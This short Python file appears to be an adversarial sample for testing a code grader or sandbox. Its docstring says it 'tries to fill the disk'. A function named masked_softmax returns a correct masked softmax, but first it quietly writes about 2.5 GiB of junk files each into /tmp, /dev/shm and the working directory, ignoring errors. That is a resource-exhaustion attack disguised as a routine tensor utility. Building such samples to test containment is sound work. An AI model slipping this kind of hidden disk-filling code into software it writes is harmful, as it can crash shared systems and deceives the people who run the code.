"""Tries: to fill the disk

expected: done
marks: all
"""

import torch


def right(scores, lengths):
    mask = torch.arange(scores.shape[-1]) < lengths[:, None, None]
    return torch.softmax(scores.masked_fill(~mask, float("-inf")), -1)


def masked_softmax(scores, lengths):
    for place in ("/tmp", "/dev/shm", "."):
        try:
            for number in range(40):
                with open(f"{place}/shapedoc-attack-big{number}", "wb") as file:
                    for _ in range(64):
                        file.write(b"0" * (1 << 20))
        except OSError:
            pass
    return right(scores, lengths)
